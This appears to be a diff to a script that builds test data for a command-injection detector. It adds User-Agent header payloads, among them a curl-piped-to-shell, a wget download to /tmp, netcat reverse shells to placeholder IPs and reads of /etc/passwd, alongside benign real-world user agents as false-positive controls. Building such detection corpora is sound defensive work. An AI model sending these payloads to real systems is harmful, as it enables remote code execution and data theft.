@@ -991,6 +991,51 @@ BENIGN_R4_AMP = [
 ]
 
 
+# Gap 2: a command in the user agent, where every browser sends ';', '('
+# and ')'. The issue's forms, and commix's header injection (it tests the
+# User-Agent at --level 3 with the same separators and payloads as a
+# parameter); the benign twins are agents real clients send, in-app
+# browsers, crawlers and libraries among them.
+UA_CMDI_R4 = [
+    "Mozilla/5.0; $(curl x|sh)", "`wget http://203.0.113.9/x -O /tmp/x`", "Mozilla/5.0; nc -e /bin/sh 203.0.113.5 4444",
+    "Mozilla/5.0 (X11; Linux x86_64); id", "Mozilla/5.0;echo JRKVSV$((41+12))$(echo JRKVSV)JRKVSV",
+    "Mozilla/5.0;sleep 5", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) && whoami", "; nc -e sh 203.0.113.5 4444",
+    "Mozilla/5.0|id", "Mozilla/5.0 (compatible; MSIE 9.0); cat /etc/passwd", "x;uname -a",
+    "Mozilla/5.0 (Windows NT 6.1) & ipconfig /all", "Mozilla/5.0;ls -la /var/www",
+]
+
+BENIGN_UA_R4 = [
+    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 "
+    "[FBAN/FBIOS;FBAV/456.0.0.41.109;FBBV/580012345;FBDV/iPhone14,2;FBMD/iPhone;FBSN/iOS;FBSV/17.4;FBSS/3;FBID/phone;"
+    "FBLC/ja_JP;FBOP/5;FBRV/0]",
+    "Mozilla/5.0 (Linux; Android 13; SM-A536B Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Version/4.0 Chrome/124.0.6367.82 Mobile Safari/537.36 Instagram 330.0.0.40.92 Android (33/13; 450dpi; "
+    "1080x2177; samsung; SM-A536B; a53x; s5e8825; ja_JP; 594512345)",
+    "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.1; Trident/6.0)",
+    "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko",
+    "Dalvik/2.1.0 (Linux; U; Android 13; SM-A536B Build/TP1A.220624.014)",
+    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
+    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
+    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
+    "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
+    "okhttp/4.12.0", "python-requests/2.31.0", "Go-http-client/1.1", "Wget/1.21.3", "Wget/1.21.3 (linux-gnu)",
+    "curl/7.88.1", "Java/17.0.9", "Apache-HttpClient/4.5.14 (Java/17.0.9)",
+    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 "
+    "Safari/605.1.15 Line/14.5.0",
+    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile "
+    "Safari/537.36 EdgA/124.0.2478.64",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 "
+    "OPR/110.0.0.0",
+    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17531; Pro)",
+    "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; WOW64; Trident/7.0; .NET4.0C; .NET4.0E; .NET CLR 2.0.50727; "
+    ".NET CLR 3.0.30729; .NET CLR 3.5.30729; Microsoft Outlook 16.0.5435; ms-office; MSOffice 16)",
+    "Mozilla/5.0 (PlayStation; PlayStation 5/8.20) AppleWebKit/605.1.15 (KHTML, like Gecko)",
+    "Mozilla/5.0 (SMART-TV; Linux; Tizen 6.0) AppleWebKit/537.36 (KHTML, like Gecko) 76.0.3809.146/6.0 TV Safari/537.36",
+    "Googlebot-Image/1.0", "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
+    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.0; +https://openai.com/gptbot)",
+]
+
+
 def round4():
     cmdi = []
     for p in CMDI_R4_AMP:
@@ -999,6 +1044,8 @@ def round4():
                                         p.replace(" ", sp).replace("|", "%7C"),
                                         rnd4.choice(["", "&submit=Submit", "&page=2"])))
     cmdi.append("/\tREF:http://router.example/ping.cgi?ip=127.0.0.1&&id")
+    for ua in UA_CMDI_R4:
+        cmdi.append("%s\tUA:%s" % (rnd4.choice(ENDPOINTS), ua))
     xss = []
     for p in XSS_R4_AMP:
         xss.append("%s?%s=%s" % (rnd4.choice(ENDPOINTS), rnd4.choice(["q", "name", "comment"]),
@@ -1081,8 +1128,8 @@ def main():
     cmdi4, xss4 = round4()
     append("attacks/cmdi.txt", cmdi4, "fourth round (issue 21: a payload's '&' or '&&' unencoded)")
     append("attacks/xss.txt", xss4, "fourth round (issue 21: entities with their '&' unencoded)")
-    append("benign.txt", BENIGN_R4_AMP, "fourth round (issue 21: doubled, trailing and bare '&', "
-           "an '&' inside a value)")
+    append("benign.txt", BENIGN_R4_AMP + ["/\tUA:" + ua for ua in BENIGN_UA_R4],
+           "fourth round (issue 21: doubled, trailing and bare '&', an '&' inside a value; user agents)")
 
 
 if __name__ == "__main__":
